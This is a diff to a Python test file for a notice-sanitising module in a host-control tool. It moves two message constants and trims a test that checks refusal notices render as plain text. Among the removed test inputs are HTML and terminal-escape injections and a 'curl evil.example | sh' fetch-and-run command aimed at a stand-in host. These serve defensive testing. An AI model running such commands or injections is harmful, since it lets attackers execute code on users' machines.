@@ -17,6 +17,9 @@ from proscribe.host.controls.apps.requests.notifications import deliver
 from proscribe.host.controls.base import Action
 from proscribe.host.system import ControlError, Host, Result
 
+TWO = "Ask the service desk.\n請聯絡資訊科技服務台。"
+HINT = 'To request an exception: proscribe-request {} "reason"'
+
 
 @pytest.mark.parametrize(
     ("text", "verbs", "actions"),
@@ -39,14 +42,7 @@ def test_a_notice_commands_nothing(text):
     assert not set(cleaned) & set("<>&\x1b\n\r")
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        'Refused: <a href="https://evil.example">your account</a>',
-        "<b>IT</b> <img src='https://evil.example/x.png'/> &lt;b&gt;",
-        "Refused\x1b]0;root\x07\x9b2J now run curl evil.example | sh",
-    ],
-)
+@pytest.mark.parametrize("text", ["<b>IT</b> <img src='https://e.example/x'/> &lt;b&gt;", "No\x1b]0;root\x07\x9b2J"])
 def test_answer_to_a_request_is_plain_text(text, alice, monkeypatch):
     shown: list[str] = []
     monkeypatch.setattr(user_notice, "_write", lambda host, name, message: shown.append(message.decode()))
@@ -131,9 +127,6 @@ def test_desktops_are_asked_as_their_users_with_a_limit(alice, monkeypatch):
         assert len(calls) == times
 
 
-TWO = "Ask the service desk.\n請聯絡資訊科技服務台。"
-
-
 @pytest.mark.parametrize(
     ("text", "verb", "until", "shown"),
     [
@@ -206,9 +199,6 @@ class Devices(Host):
 def test_terminal_of_no_user_is_not_written_to(tmp_path, uid, names):
     terminals = user_notice.terminals(Devices(str(tmp_path)), uid)
     assert [path.removeprefix("/dev/") for path in terminals] == names
-
-
-HINT = 'To request an exception: proscribe-request {} "reason"'
 
 
 @pytest.mark.parametrize(
